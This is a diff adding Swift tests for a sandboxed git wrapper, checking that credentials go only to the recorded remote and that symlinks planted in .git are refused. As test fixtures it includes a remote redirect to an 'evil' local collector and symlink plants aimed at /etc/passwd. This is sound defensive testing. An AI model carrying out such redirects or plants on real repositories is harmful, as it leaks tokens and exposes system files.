@@ -113,6 +113,43 @@ struct GitJailTests {
         #expect(!diff.patch.contains("root:"), "no line of the host's /etc/shadow: \(diff.patch)")
     }
 
+    @Test func credentialsGoOnlyToTheURLTheServerRecorded() async throws {
+        let project = try TemporaryProject()
+        defer { project.remove() }
+        let jailed = try TestGit(project.root)
+        defer { jailed.shutdown() }
+        let sandbox = try #require(jailed.sandbox)
+        try await jailed.git.initialize()
+        #expect(try await sh(sandbox, "echo x > a && git add a && git commit -qm a").exitCode == 0)
+        let recorded = "https://git.example.test/team/app.git"
+        try await jailed.git.addRemote("origin", url: recorded)
+        // The project's code points origin (or only its push URL) at a listener of its own.
+        let listener = try LoopbackListener()
+        let evil = "https://127.0.0.1:\(listener.port)/collect.git"
+        let secret = GitCredentials.usernamePassword(username: "me", password: "token-\(UUID().uuidString)")
+        #expect(try await sh(sandbox, "git remote set-url origin \(evil)").exitCode == 0)
+        await #expect(throws: GitError.self) { try await jailed.git.push("origin", url: recorded, credentials: secret) }
+        await #expect(throws: GitError.self) { try await jailed.git.fetch("origin", url: recorded, credentials: secret) }
+        #expect(try await sh(sandbox, "git remote set-url origin \(recorded) && git remote set-url --push origin \(evil)").exitCode == 0)
+        await #expect(throws: GitError.self) { try await jailed.git.push("origin", url: recorded, credentials: secret) }
+        #expect(!listener.acceptedAnything, "nothing connected to the project's listener")
+    }
+
+    @Test func linksInsideGitAreRefused() async throws {
+        let project = try TemporaryProject()
+        defer { project.remove() }
+        let jailed = try TestGit(project.root)
+        defer { jailed.shutdown() }
+        let sandbox = try #require(jailed.sandbox)
+        try await jailed.git.initialize()
+        for plant in ["mv .git/objects .git/o && ln -s o .git/objects", "mkdir -p .git/refs/heads/x && ln -s /etc/passwd .git/refs/heads/x/y",
+                      "ln -s /etc/passwd .git/HEAD.lock2 && mv .git/HEAD .git/H && ln -s H .git/HEAD"] {
+            #expect(try await sh(sandbox, "rm -rf .git && git init -q && \(plant)").exitCode == 0, "\(plant)")
+            let refusal = await refusalReason { _ = try await jailed.git.status() }
+            #expect(refusal?.contains("is a link") == true, "\(plant): \(refusal ?? "not refused")")
+        }
+    }
+
     @Test func aFIFOInTheProjectDoesNotStallGit() async throws {
         let project = try TemporaryProject()
         defer { project.remove() }
@@ -148,14 +185,16 @@ struct GitJailTests {
         await #expect(throws: GitError.self) { try await jailed.git.addRemote("sibling", url: "file://" + sibling) }
         await #expect(throws: GitError.self) { try await jailed.git.addRemote("up", url: "file://\(remotes)/../sibling") }
         await #expect(throws: GitError.self, "http needs the operator's consent") { try await jailed.git.addRemote("web", url: "http://127.0.0.1:1/p.git") }
-        try await jailed.git.addRemote("origin", url: "file://\(remotes)/allowed.git")
-        try await jailed.git.fetch("origin")
+        let allowedURL = "file://\(remotes)/allowed.git"
+        try await jailed.git.addRemote("origin", url: allowedURL)
+        try await jailed.git.fetch("origin", url: allowedURL)
         // The project's code points the remote at the sibling after it was added.
         #expect(try await sh(sandbox, "git remote set-url origin file://\(sibling)").exitCode == 0)
-        await #expect(throws: GitError.self) { try await jailed.git.fetch("origin") }
-        await #expect(throws: GitError.self) { try await jailed.git.pull("origin", author: author) }
-        #expect(try await sh(sandbox, "git remote set-url origin file://\(remotes)/allowed.git && git remote set-url --push origin file://\(sibling)").exitCode == 0)
-        await #expect(throws: GitError.self, "the push URL is checked too") { try await jailed.git.push("origin", branch: "main") }
+        await #expect(throws: GitError.self) { try await jailed.git.fetch("origin", url: allowedURL) }
+        await #expect(throws: GitError.self) { try await jailed.git.pull("origin", url: allowedURL, author: author) }
+        await #expect(throws: GitError.self, "the recorded URL must still be allowed") { try await jailed.git.fetch("origin", url: "file://" + sibling) }
+        #expect(try await sh(sandbox, "git remote set-url origin \(allowedURL) && git remote set-url --push origin file://\(sibling)").exitCode == 0)
+        await #expect(throws: GitError.self, "the push URL is checked too") { try await jailed.git.push("origin", url: allowedURL, branch: "main") }
         #expect(!FileManager.default.fileExists(atPath: project.root + "/secret.txt"))
         // A clone of the sibling, by another project: refused, nothing written.
         let other = project.outer + "/other"
